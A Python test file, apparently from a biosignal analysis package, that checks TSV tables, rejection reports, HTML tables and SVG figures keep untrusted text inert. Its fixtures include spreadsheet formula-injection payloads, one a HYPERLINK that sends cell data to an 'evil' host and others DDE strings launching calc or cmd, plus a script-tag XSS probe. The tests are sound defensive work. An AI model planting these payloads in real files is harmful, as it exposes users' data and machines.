"""What people are called does not run in a spreadsheet, nor in a figure, nor on a page."""

import csv

import numpy as np
import pandas as pd
import pytest

from biospectra.errors import RecordingError
from biospectra.report.html import html_table
from biospectra.report.style import figure
from biospectra.store.dataset import read_split
from biospectra.store.predictions import read_predictions, write_predictions
from biospectra.store.quarantine import Quarantine, read_rejected
from biospectra.store.tables import as_it_was, defused, read_tsv, write_tsv

FORMULAS = ['=HYPERLINK("http://evil/?"&A1,"see")', "+1+1|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1"]
FORMULAS += ["＝1+1", "'=1+1", "''=x", "-Fz", "+"]
HARMLESS = ["Fz", "", "-0.5", "+3", "-1e-3", "'tis", "a=b", "1-2", " =1", "5", "é", "nan", "NA"]


@pytest.mark.parametrize("text", [*FORMULAS, *HARMLESS])
def test_every_text_comes_back(text):
    assert as_it_was(defused(text)) == text
    assert defused(text) == (f"'{text}" if text in FORMULAS else text)


def test_a_table_has_no_formulas_and_comes_back(tmp_path):
    texts = [text for text in [*FORMULAS, *HARMLESS] if "\t" not in text]
    table = pd.DataFrame({"subject": texts, "value": np.linspace(-3, 3, len(texts))})
    write_tsv(table, tmp_path / "a.tsv")
    with (tmp_path / "a.tsv").open(newline="", encoding="utf-8") as file:
        cells = [row[0] for row in csv.reader(file, delimiter="\t")][1:]
    assert not [cell for cell in cells if cell[:1] in "=@＝" and cell]
    assert not [cell for cell in cells if cell[:1] in "+-" and cell and not is_number(cell)]
    pd.testing.assert_frame_equal(
        read_tsv(tmp_path / "a.tsv", ["subject"]), table, check_dtype=False
    )


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_the_tables_of_a_study_keep_who_is_who(tmp_path):
    rows = pd.DataFrame(
        {
            "recording": ["a", "b"],
            "segment": [0, 1],
            "start_s": [0.0, 5.0],
            "label": ["x", "y"],
            "subject": FORMULAS[:2],
            "database": ["@home", "-"],
            "split": ["training", "test"],
        }
    )
    write_tsv(rows, tmp_path / "split.tsv")
    assert list(read_split(tmp_path / "split.tsv")["subject"]) == FORMULAS[:2]
    write_predictions(rows, np.eye(2), ["x", "y"], tmp_path / "predictions.tsv")
    found = read_predictions(tmp_path / "predictions.tsv")
    assert list(found["subject"]) == FORMULAS[:2]
    assert list(found["database"]) == ["@home", "-"]
    for name in ("split", "predictions"):
        assert "\t=HYP" not in (tmp_path / f"{name}.tsv").read_text().replace('"', "")


def test_reasons_are_defused_and_come_back(tmp_path):
    quarantine = Quarantine("skip")
    with quarantine.watch("a"):
        raise RecordingError("=cmd|x.csv", "is empty", "fetch it again")
    quarantine.write(tmp_path / "rejected.tsv")
    assert "\t'=cmd|x.csv: is empty" in (tmp_path / "rejected.tsv").read_text()
    assert read_rejected([tmp_path / "rejected.tsv"])["a"].startswith("=cmd|x.csv: is empty")


def test_cells_of_pages_are_text():
    numbers = html_table(["score"], [["-1.49 [-4.08, +0.42]"], ["-1+cmd [1]"]])
    assert "<td>-1.49 [-4.08, +0.42]</td>" in numbers and "<td>&#x27;-1+cmd [1]</td>" in numbers
    page = html_table(["<b>who</b>"], [["<script>alert(1)</script>"], ["=1+1"], [None]])
    assert "<script" not in page and "<b>" not in page
    assert "&lt;script&gt;" in page and ">&#x27;=1+1<" in page


def test_names_with_dollar_signs_are_drawn_as_they_are(tmp_path):
    with figure(tmp_path / "a.svg") as drawing:
        axis = drawing.subplots()
        axis.plot([0, 1], label=r"$\bad$ of $5")
        axis.set_title(r"$\frac{$")
        axis.legend()
    drawn = (tmp_path / "a.svg").read_text()
    assert r"$\bad$ of $5" in drawn and r"$\frac{$" in drawn
